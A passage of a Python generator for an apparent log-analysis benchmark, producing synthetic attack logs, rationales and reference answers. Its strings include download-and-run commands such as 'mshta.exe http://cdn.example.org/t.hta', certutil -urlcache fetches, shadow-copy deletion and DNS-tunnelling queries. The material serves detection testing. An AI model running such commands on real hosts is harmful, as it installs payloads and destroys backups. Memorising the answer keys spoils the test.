        info.update(dropper=dropper, n=len(steps))
    elif label == "persistence-scheduled-task":
        if v == 2:
            task, payload, dl = "WindowsTelemetryCheck", "t.hta", "cdn.example.org"
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", SCHTASKS,
                            f"schtasks.exe /create /tn {task} /sc daily /st 09:00 /tr \"mshta.exe http://{dl}/{payload}\" /f"), True, "create")
            t += rng.randint(5000, 20000)
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", SCHTASKS, f"schtasks.exe /run /tn {task}"), True)
            t += rng.randint(500, 2000)
            log.add(t, eid1(user, SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                            "C:\\Windows\\System32\\mshta.exe", f"mshta.exe http://{dl}/{payload}"), True)
            ind = [task, payload, dl]
        else:
            task, path, dl, tr, sc = [
                ("SystemHealthRefresh", "C:\\ProgramData\\dat\\cache.dll", "files.example.net",
                 "rundll32.exe C:\\ProgramData\\dat\\cache.dll,Start", "/sc minute /mo 15 /ru SYSTEM"),
                ("ChromeUpdateTaskMachine2", "C:\\Users\\Public\\Libraries\\upd.exe", c2,
                 "C:\\Users\\Public\\Libraries\\upd.exe", "/sc onlogon"),
                None,
                ("OneDriveReportingTask", f"C:\\Users\\{uname}\\AppData\\Roaming\\Microsoft\\Crypto\\RSA\\msvc.dat", "update.example.com",
                 f"rundll32.exe C:\\Users\\{uname}\\AppData\\Roaming\\Microsoft\\Crypto\\RSA\\msvc.dat,#1", "/sc hourly"),
            ][v]
            fname = path.rsplit("\\", 1)[1]
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", CERTUTIL,
                            f"certutil.exe -urlcache -split -f http://{dl}/{fname} {path}"), True)
            t += rng.randint(1500, 6000)
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", SCHTASKS,
                            f"schtasks.exe /create {sc} /tn {task} /tr \"{tr}\" /f"), True, "create")
            t += rng.randint(60000, 15 * 60000)
            img = RUNDLL if tr.startswith("rundll32") else path
            log.add(t, eid1(SYS if "SYSTEM" in sc else user, SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", img, tr), True, "run")
            log.add(t + rng.randint(1000, 5000), eid3(SYS if "SYSTEM" in sc else user, img, c2, 443), True)
            ind = [fname, task, dl]
        info.update(ind=ind, c2=c2)
    return log, window, proc_groups(user, uname, lookalike, {c2}), info


# --------------------------------------------------------------------------------------------- dns
DNS_NAMES = ["www.example.com", "api.example.com", "static.example.net", "login.example.org", "updates.corp.example",
             "fileserver.corp.example", "wpad.corp.example", "time.example.org", "mail.example.com", "teams.example.com",
             "dc01.corp.example", "intranet.corp.example", "news.example.net", "images.example.org"]


def dns_line(ip, name, qtype, rng):
    return (f"{{TS}} queries: info: client @0x7f3a{rng.randint(0, 0xffffffff):08x} {ip}#{rng.randint(1024, 65535)} "
            f"({name}): query: {name} IN {qtype} +E(0) (10.20.0.53)")


def dns_groups(clients, lookalike):
    def q(log, rng, t):
        ip, name = rng.choice(clients), rng.choice(DNS_NAMES)
        log.add(t, dns_line(ip, name, "A", rng))
        if rng.random() < 0.5:
            log.add(t + rng.randint(1, 30), dns_line(ip, name, "AAAA", rng))

    def srv(log, rng, t):
        log.add(t, dns_line(rng.choice(clients), "_ldap._tcp.dc._msdcs.corp.example", "SRV", rng))

    def cdn(log, rng, t):
        h = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
        log.add(t, dns_line(rng.choice(clients), f"d{h}.cdn.example.net", "A", rng))

    def txt(log, rng, t):
        name = rng.choice(["_dmarc.example.com", "selector1._domainkey.example.com", "_acme-challenge.www.example.org"])
        log.add(t, dns_line(rng.choice(clients), name, "TXT", rng))

    def rep(log, rng, t):
        h = "".join(rng.choice("0123456789abcdef") for _ in range(16))
        log.add(t, dns_line(rng.choice(clients), f"{h}.rep.av.example.com", "A", rng))

    g = [("q", 12, q), ("srv", 1, srv), ("cdn", 2, cdn), ("txt", 1, txt)]
    if lookalike:
        g.append(("rep", 1, rep))
    return g


B32 = "abcdefghijklmnopqrstuvwxyz234567"


def make_dns(rng, label, v):
    log = Log(start_time(rng), fmt_dns)
    window = rng.randint(10, 20) * 60000
    clients = sorted({f"10.20.{rng.randint(1, 9)}.{rng.randint(10, 250)}" for _ in range(rng.randint(4, 8))})
    lookalike = label == "none" or rng.random() < 0.6
    info = {"routine": "A/AAAA look-ups of internal and example hosts and domain-controller SRV look-ups"}
    if label == "dns-tunnelling":
        base = ["cloud-sync.example.net", "telemetry-cdn.example.com", "update-check.example.org", "stats.example"][v]
        client = rng.choice(clients)
        alphabet = "0123456789abcdef" if v % 2 == 0 else B32
        qtypes = [["TXT"], ["TXT", "CNAME"], ["NULL", "TXT"], ["TXT"]][v]
        n = rng.randint(20, 40)
        t = rng.randint(window // 10, window // 2)
        sess = "".join(rng.choice("0123456789abcdef") for _ in range(4))
        for k in range(n):
            c1 = "".join(rng.choice(alphabet) for _ in range(rng.randint(50, 63)))
            c2 = "".join(rng.choice(alphabet) for _ in range(rng.randint(16, 40)))
            log.add(t, dns_line(client, f"{c1}.{c2}.s{sess}{k:03d}.{base}", rng.choice(qtypes), rng), True)
            t += rng.randint(300, 2000)
        info.update(base=base, client=client, n=n, enc="hex" if v % 2 == 0 else "base32", qtypes="/".join(qtypes))
    return log, window, dns_groups(clients, lookalike), info


# ----------------------------------------------------------------------------------------- assembly
# Benign lookalikes, cited in a rationale only when their marker really occurs in the item's log.
LOOKALIKES = {
    "auth": [("Failed password for alice from 10.20.", "a legitimate user (alice) mistyping a password once before logging in from an internal address"),
             ("Failed password for bob from 10.20.", "a legitimate user (bob) mistyping a password once before logging in from an internal address")],
    "web": [("union+jack", "a search for 'union jack cushion' (the words, not a UNION SELECT)"),
            ("select+colour", "a search for 'select colour options'"),
            ('"POST /login HTTP/1.1" 401', "a single failed login followed by a successful one from the same browser"),
            ("favicon.ico", "404s for /favicon.ico"),
            ('"POST /upload.php HTTP/1.1" 200 88', "ordinary image uploads to /upload.php followed by a .jpg fetch")],
    "process": [("Inventory.ps1", "a scheduled inventory script run as SYSTEM with powershell.exe -ExecutionPolicy Bypass -File"),
                ("MsMpEng.exe", "Defender (MsMpEng.exe) opening lsass.exe with 0x1000 (query-limited) access"),
                ("list shadows", "a backup agent running vssadmin list shadows (read-only)"),
                ("-hashfile", "certutil -hashfile on a downloaded installer"),
                ("Control_RunDLL", "rundll32 loading shell32.dll Control_RunDLL (Control Panel)"),
                ("CorpAgentUpdate", "msiexec registering the CorpAgentUpdate task for a Program Files updater")],
    "dns": [(".cdn.example.net", "short hashed CDN host names"),
            (" IN TXT ", "TXT look-ups for DMARC/DKIM/ACME records"),
            (".rep.av.example.com", "antivirus reputation look-ups with a single 16-hex-character label")],
}


def present_lookalikes(kind, background_lines):
    out = []
    for marker, desc in LOOKALIKES[kind]:
        if any(marker in ln for ln in background_lines) and desc not in out:
            out.append(desc)
    return out

MAKERS = {"auth": make_auth, "web": make_web, "process": make_process, "dns": make_dns}
ATTACK_KIND = {"ssh-brute-force": "auth", "sql-injection": "web", "path-traversal": "web", "webshell": "web",
               "credential-stuffing": "web", "encoded-powershell": "process", "credential-dumping": "process",
               "ransomware-precursor": "process", "persistence-scheduled-task": "process", "dns-tunnelling": "dns"}


def plan():
    p = [(ATTACK_KIND[lab], lab, v) for lab in LABELS[:-1] for v in range(4)]
    p += [(k, "none", v) for k in ("auth", "web", "process", "dns") for v in range(2)]
    random.Random(VERSION + "/order").shuffle(p)
    return p


def indicators_and_rationale(kind, label, info, first, tags, background_lines):
    look = present_lookalikes(kind, background_lines)
    if label == "none":
        text = f"No attack: only routine activity ({info['routine']})."
        if look:
            text += " Benign lookalikes present: " + "; ".join(look) + "."
        return [], text + " The answer is none, with no line and no indicators."
    extra = (" Benign lookalikes in the same excerpt: " + "; ".join(look) + ".") if look else ""
    inds, text = _attack_rationale(kind, label, info, first, tags)
    return inds, text + extra


def _attack_rationale(kind, label, info, first, tags):
    if label == "ssh-brute-force":
        return [info["ip"], info["user"]], (
            f"{info['tries']} failed SSH password attempts from {info['ip']} over {info['distinct']} user names (from line {first}), "
            f"then 'Accepted password for {info['user']}' from the same address (line {tags['accepted']}) and sudo to /bin/bash "
            f"(line {tags['sudo']}): a successful brute force followed by privilege use.")
    if label == "sql-injection":
        return [info["ip"], info["path"]], (
            f"{info['ip']} sends {info['n']} requests to {info['path']} tampering with '{info['param']}': a quote probe at line {first} "
            f"(HTTP 500), boolean OR 1=1 tests, ORDER BY column counting and UNION SELECT extraction of version, tables and "
            f"users (from line {tags.get('union')}); user agent {info['ua'].split(' ')[0]}.")
    if label == "path-traversal":
        return [info["ip"], "/etc/passwd"], (
            f"{info['ip']} requests {info['path']} with ../ sequences (plain, URL-encoded, double-dot-slash) to read /etc/passwd "
            f"(line {first}) and other system files ({info['n']} requests).")
    if label == "webshell":
        return [info["ip"], info["shell"]], (
            f"{info['ip']} POSTs to the upload endpoint {info['upload']} (line {first}) and then calls the uploaded script "
            f"{info['shell']} with cmd= parameters (id, whoami, ... from line {tags['firstcmd']}): a webshell upload and use.")
    if label == "credential-stuffing":
        return [info["ip"], info["ua"]], (
            f"{info['n']} automated login POSTs to {info['path']} from {info['ip']}, 0.3-1.5 s apart (from line {first}), with the "
            f"scripting user agent {info['ua']}: almost all 401, {info['wins']} successes (302)"
            + (f", then {info['limited']} rate-limited (429)" if info["limited"] else "")
            + f", then /account is opened (line {tags['account']}). Many accounts tried from one client = credential stuffing.")
    if label == "encoded-powershell":
        return [info["lure"], info["c2"], info["dll"]], (
            f"{info['parent']} opening {info['lure']} spawns powershell.exe with '{info['flags']}' and a base64 blob (line {first}; "
            f"it decodes to an IEX DownloadString cradle for {info['c2']}), which connects to {info['c2']}, writes {info['dll']} "
            f"into %TEMP% and runs it with rundll32 (line {tags['rundll']}).")
    if label == "credential-dumping":
        ind = info["ind"]
        return ind, (
            f"Non-system tooling ({ind[0]}, line {first}) opens lsass.exe with broad access (line {tags['access']}) to dump or "
            f"read credentials.")
    if label == "ransomware-precursor":
        name = info["dropper"].rsplit("\\", 1)[1]
        return [name, "delete shadows"], (
            f"{info['dropper']} runs {info['n']} recovery-inhibition commands starting with 'vssadmin.exe delete shadows /all /quiet' "
            f"(line {first}); the others delete shadow copies/backup catalogs, disable boot recovery or stop databases, "
            f"which precedes encryption.")
    if label == "persistence-scheduled-task":
        ind = info["ind"]
        return ind, (
            f"Scheduled-task persistence: the chain starts at line {first} ({'the task creation' if first == tags['create'] else 'a certutil -urlcache download of ' + ind[0]}), "
            f"schtasks /create registers the masquerading task {ind[1]} (line {tags['create']}) to run the payload, which later "
            f"runs from the Task Scheduler.")
    if label == "dns-tunnelling":
        return [info["base"], info["client"]], (
            f"{info['client']} sends {info['n']} {info['qtypes']} queries (from line {first}) for unique names under {info['base']} whose "
            f"labels are 50-63 random {info['enc']} characters plus a sequence number: data encoded in DNS names (tunnelling).")
    raise ValueError(label)


def build_item(idx, kind, label, v):
    rng = random.Random(f"{VERSION}/{kind}/{label}/{v}")
    log, window, groups, info = MAKERS[kind](rng, label, v)
    a = log.count(True)
    n_total = rng.randint(max(40, a + 20), 143)
    fill(log, rng, n_total - a, window, groups)
    host = info.get("host", "")
    lines, first, tags = log.render()
    lines = [ln.replace("{HOST}", host) for ln in lines]
    assert 40 <= len(lines) <= 150, (kind, label, v, len(lines))
    korean = idx % 3 == 2
    numbered = "\n".join(f"{i:04d} | {ln}" for i, ln in enumerate(lines, 1))
    background = [lines[i] for i in log.background_idx]
    inds, rationale = indicators_and_rationale(kind, label, info, first, tags, background)
    return {
        "id": f"la-{idx + 1:03d}",
        "log_kind": kind,
        "input": instruction(kind, len(lines), korean) + numbered,
        "attack": label,
        "first_malicious_line": first,
        "indicators": inds,
        "rationale": rationale,
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
    args = ap.parse_args()
    os.makedirs(args.out, exist_ok=True)
    items = [build_item(i, k, lab, v) for i, (k, lab, v) in enumerate(plan())]
    with open(os.path.join(args.out, "items.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for it in items:
            fh.write(json.dumps(it, ensure_ascii=False) + "\n")
    with open(os.path.join(args.out, "reference_answers.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for it in items:
            fh.write(json.dumps({"id": it["id"], "attack": it["attack"], "first_malicious_line": it["first_malicious_line"],
                                 "indicators": it["indicators"]}, ensure_ascii=False) + "\n")
    print(f"wrote {len(items)} items to {args.out}")


if __name__ == "__main__":
    main()
